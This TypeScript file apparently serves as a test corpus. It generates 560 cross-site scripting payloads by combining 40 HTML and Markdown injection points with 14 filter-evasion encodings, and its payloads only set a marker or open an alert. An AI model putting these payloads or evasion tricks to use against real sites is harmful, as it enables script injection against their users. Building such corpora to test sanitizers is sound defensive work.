/** What each of them would do if it ran: leave a mark, or open a dialog. */
const DEEDS = ["window.__ran=1", "alert(1)"];

/** Where a browser runs script, each written so that it would run there if it stood in a page unescaped. */
const PLACES: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `</style><script>${deed}</script>`,
  (deed) => `--><script>${deed}</script><!--`,
  (deed) => `]]><script>${deed}</script>`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `"><img src=x onerror="${deed}">`,
  (deed) => `'><img src=x onerror='${deed}'>`,
  (deed) => `" autofocus onfocus="${deed}" x="`,
  (deed) => `' onmouseover='${deed}' x='`,
  (deed) => `<svg onload=${deed}>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><a href="javascript:${deed}"><text>x</text></a></svg>`,
  (deed) => `<math><mtext><style><img src=x onerror=${deed}></style></mtext></math>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:parent.${deed}"></iframe>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `<form action="javascript:${deed}"><button>x</button></form>`,
  (deed) => `<button formaction="javascript:${deed}">x</button>`,
  (deed) => `<details open ontoggle=${deed}>x</details>`,
  (deed) => `<input autofocus onfocus=${deed}>`,
  (deed) => `<video><source onerror=${deed}></video>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<base href="javascript:${deed}//">`,
  (deed) => `<link rel=stylesheet href=x onerror=${deed}>`,
  (deed) => `[x](javascript:${deed})`,
  (deed) => `<javascript:${deed}>`,
  (deed) => `[x][y]\n\n[y]: javascript:${deed}`,
  (deed) => `![x](javascript:${deed})`,
  (deed) => `[x](https://a.example "\\" onmouseover=\\"${deed}")`,
  (deed) => `[x](https://a.example/"onmouseover="${deed})`,
  (deed) => `[x](data:text/html,<script>${deed}</script>)`,
  (deed) => `\`\`\`"><script>${deed}</script>\nx\n\`\`\``,
];

/** Ways to write the same so that one who only looks for it does not find it. */
const WRITTEN: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/script|img|svg|onerror|javascript/gi, mixed),
  (text) => text.replaceAll(/[<>"']/g, (letter) => `&#${letter.charCodeAt(0)};`),
  (text) => text.replaceAll(/[<>"':(]/g, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll(/[<>"']/g, (letter) => encodeURIComponent(letter)),
  (text) => text.replaceAll(/[<>"']/g, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll("<", "\\<").replaceAll(":", "\\:"),
  (text) => text.replaceAll("javascript:", "java\nscript:").replaceAll(" on", "\non"),
  (text) => text.replaceAll("javascript:", "java&Tab;script&colon;").replaceAll(" on", "/on"),
  (text) => text.replaceAll("<script>", "<scr<script>ipt>").replaceAll("javascript:", "\u00a0javascript:"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replaceAll("script", "scr\u0000ipt").replaceAll("on", "\u0000on"),
  (text) => `${text}\uffff\ufdd0`,
  (text) => `\u00a0${text.replaceAll(" ", "\u2028")}`,
];

function mixed(word: string): string {
  return word
    .split("")
    .map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter))
    .join("");
}

/** Every place in every way of writing: 560 of them. */
export const INJECTIONS: readonly string[] = PLACES.flatMap((place, at) =>
  WRITTEN.map((write, way) => write(place(DEEDS[(at + way) % DEEDS.length] ?? ""))),
);
